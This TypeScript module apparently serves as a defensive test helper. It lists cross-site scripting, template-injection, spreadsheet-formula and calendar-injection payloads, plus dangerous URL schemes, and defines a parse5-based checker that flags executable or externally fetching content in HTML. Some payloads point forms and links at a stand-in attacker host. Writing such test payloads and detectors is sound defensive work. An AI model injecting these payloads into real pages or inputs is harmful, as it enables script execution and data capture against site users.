import { createHash } from 'node:crypto'
import { parse, parseFragment, type DefaultTreeAdapterTypes as Tree } from 'parse5'

/** What somebody could write in order to run a script with a reader, or to be fetched from elsewhere. */
export const payloads = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title></textarea></style></noscript><svg onload=alert(1)>',
  '</script><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)-->',
  ']]><script>alert(1)</script>',
  '"autofocus onfocus=alert(1) x="',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">here</a>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<base href="https://evil.example/"><form action="https://evil.example/"><button>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u2028\u2029<img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '=HYPERLINK("https://evil.example/","here")',
  '\r\nATTENDEE:mailto:somebody@evil.example\r\n',
]

/** Addresses that run, or lead to what runs. */
export const addresses = [
  'javascript:alert(1)',
  ' \u0001JaVa\tScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x.js',
]

const running = /^(?:javascript|vbscript|data:(?!image\/(?:png|jpeg|webp|svg\+xml)\b))/i
const followed = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'srcset', 'ping'])
const foreign = new Set(['iframe', 'object', 'embed', 'base', 'frame', 'applet', 'portal'])

/**
 * What of a document would run, or fetch from elsewhere by itself, as a browser reads it.
 * @param policy of the document: scripts that it names by their hashes are ours
 */
export function aliveIn(html: string, policy = '', isWhole = true): string[] {
  const faults: string[] = []
  const visit = (node: Tree.ChildNode | Tree.Document | Tree.DocumentFragment) => {
    if ('tagName' in node) faults.push(...faultsOf(node, policy))
    if ('content' in node) visit(node.content)
    if ('childNodes' in node) for (const child of node.childNodes) visit(child)
  }
  visit(isWhole ? parse(html) : parseFragment(html))
  return faults
}

function faultsOf({ tagName, attrs, childNodes }: Tree.Element, policy: string): string[] {
  const faults: string[] = []
  for (const { name, prefix, value } of attrs) {
    const whole = prefix ? `${prefix}:${name}` : name
    if (/^on/i.test(whole) || whole === 'srcdoc') faults.push(`<${tagName} ${whole}>`)
    // A browser leaves out what is no letter before and within the scheme.
    const address = [...value].filter((letter) => letter > ' ').join('')
    if (followed.has(whole) && running.test(address)) faults.push(`<${tagName} ${whole}="${value.slice(0, 60)}">`)
    if (['src', 'srcset', 'poster', 'action'].includes(whole) && /evil\.example/.test(value))
      faults.push(`<${tagName} ${whole}="${value.slice(0, 60)}">`)
  }
  if (foreign.has(tagName)) faults.push(`<${tagName}>`)
  if (tagName === 'meta' && attrs.some(({ name, value }) => name === 'http-equiv' && /refresh/i.test(value)))
    faults.push('<meta http-equiv="refresh">')
  if (tagName === 'script') {
    const text = childNodes.map((child) => ('value' in child ? child.value : '')).join('')
    const isData = attrs.some(({ name, value }) => name === 'type' && value === 'application/ld+json')
    if (isData) JSON.parse(text)
    else if (!policy.includes(`'sha256-${createHash('sha256').update(text).digest('base64')}'`))
      faults.push(`<script>${text.slice(0, 60)}`)
  }
  return faults
}
